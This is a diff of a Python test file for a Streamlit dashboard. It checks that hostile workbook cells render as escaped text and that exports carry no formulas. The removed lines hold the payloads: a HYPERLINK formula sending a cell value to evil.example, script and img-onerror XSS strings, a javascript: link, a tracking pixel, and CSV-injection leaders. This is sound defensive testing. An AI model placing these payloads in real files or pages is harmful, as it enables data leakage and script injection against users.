@@ -5,6 +5,8 @@ Cells hold ``=HYPERLINK(…)``, ``<script>``, ``<img onerror>``, Markdown links 
 an exception; every body that Streamlit renders as Markdown (texts, captions, titles, alerts,
 metric and widget labels, options) must hold the escaped text, never the markup; the downloads
 must hold no formula (XLSX: no formula cell; CSV: OWASP ``'`` prefix; HTML: escaped).
+
+The hostile workbook (the sample, rewritten cell by cell) is tests/workbooks.py's ``hostile_workbook``.
 """
 from __future__ import annotations
 
@@ -15,88 +17,23 @@ import re
 import time
 import zipfile
 from html.parser import HTMLParser
-from pathlib import Path
 
 from openpyxl import load_workbook
 
-from tests.test_access import PASSWORDS, dashboard, isolated, login, password_secrets, profile  # noqa: F401
-from tests.test_privacy import _rewrite, dashboard_pages, recorded_files  # noqa: F401
+from tests.apptest import PASSWORDS, dashboard, dashboard_pages, login, nodes, password_secrets, profile
+from tests.workbooks import hostile_workbook
 
-FORMULA = '=HYPERLINK("http://evil.example/?v="&A1;"clic")'
-LONG = "Très long texte " * 1250                      # 20,000 characters
-HOSTILE = [
-    FORMULA,
-    "<script>alert('xss')</script>",
-    "<img src=x onerror=alert(1)>",
-    "[clic](javascript:alert(1))",
-    "![image](http://evil.example/pixel.png)",
-    "**gras** $x^2$ :red[rouge] :material/warning:",
-    "+33 6 00 00 00 00",
-    "@SOMME(A1:A9)",
-    "-2+3",
-    LONG,
-    "Fête 🎉 coopérative 🧭",
-]
 # Raw markup that must never reach a Markdown body unescaped.
 MARKUP = ["[clic](javascript", "javascript:", "<script", "<img", "![image](", "**gras**", "$x^2$", ":red[rouge]",
           ":material/warning:"]
-ROOM = "<img src=x onerror=alert('salle')>"              # a room renamed in Salles and Planning alike
-ROOM_FORMULA = '=HYPERLINK("http://evil.example";"Amphi B")'
-
-
-def hostile_workbook(folder: Path) -> Path:
-    from tests.test_access import sample_copy
-
-    target = sample_copy(folder)
-    counter = iter(range(10_000))
-
-    def pick() -> str:
-        return HOSTILE[next(counter) % len(HOSTILE)]
-
-    def free(*columns):
-        def change(i, r):
-            for column in columns:
-                if column in r and (i % 2 == 0 or column in ("Titre", "Structure")):
-                    r[column] = pick()
-        return change
-
-    def rooms(i, r):
-        r["Salle"] = {"Amphi A": ROOM, "Amphi B": ROOM_FORMULA}.get(r["Salle"], r["Salle"])
-        r["Bâtiment"], r["Équipements"] = pick(), pick()
-
-    def planning(i, r):
-        r["Salle"] = {"Amphi A": ROOM, "Amphi B": ROOM_FORMULA}.get(r["Salle"], r["Salle"])
-        if i % 3 == 0:
-            r["Activité"] = pick()
-
-    tabs = {
-        "Collectif": free("Nom", "Prénom", "Structure", "Ville", "Rôles", "Statut"),
-        "Partenaires": free("Structure", "Apport", "Type"),
-        "Activités": free("Titre", "Porteur", "Besoins", "Format", "Thèmes"),
-        "Salles": rooms,
-        "Planning": planning,
-        "Participants": free("Nom", "Prénom", "Structure", "Profil", "Régime"),
-        "Hébergements": free("Nom", "Quartier", "Type"),
-    }
-    for name, change in tabs.items():
-        _rewrite(target / f"{name}.csv", change)
-    return target
-
-
 MARKDOWN_KINDS = ("markdown", "caption", "title", "header", "subheader", "info", "warning", "error", "success",
                   "toast")
-
-
-def _nodes(node):
-    yield node
-    for child in getattr(node, "children", {}).values():
-        yield from _nodes(child)
 
 
 def markdown_bodies(at) -> list[str]:
     """Every string Streamlit renders as Markdown: element bodies, labels, help texts and options."""
     bodies = []
-    for node in _nodes(at._tree):
+    for node in nodes(at._tree):
         kind = getattr(node, "type", None)
         proto = getattr(node, "proto", None)
         if kind in MARKDOWN_KINDS:
@@ -162,8 +99,8 @@ class _Tags(HTMLParser):
         self.hrefs += [value or "" for name, value in attrs if name in ("href", "src")]
 
 
-def test_hostile_cells_render_as_text_on_every_page_and_exports_hold_no_formula(isolated, monkeypatch,  # noqa: F811
-                                                                                recorded_files):  # noqa: F811
+def test_hostile_cells_render_as_text_on_every_page_and_exports_hold_no_formula(isolated, monkeypatch,
+                                                                                recorded_files):
     monkeypatch.setenv("FORUM_SOURCE", str(hostile_workbook(isolated)))
     password_secrets(monkeypatch, isolated)
     at = login(dashboard().run(), PASSWORDS["comite"])     # the comité sees names: the most text on screen
@@ -191,7 +128,7 @@ def test_hostile_cells_render_as_text_on_every_page_and_exports_hold_no_formula(
     assert defused, "aucune cellule hostile dans les téléchargements : le test ne verrait pas une formule"
 
 
-def test_dataframes_never_turn_workbook_text_into_links(isolated, monkeypatch):  # noqa: F811
+def test_dataframes_never_turn_workbook_text_into_links(isolated, monkeypatch):
     monkeypatch.setenv("FORUM_SOURCE", str(hostile_workbook(isolated)))
     password_secrets(monkeypatch, isolated)
     at = login(dashboard().run(), PASSWORDS["comite"])
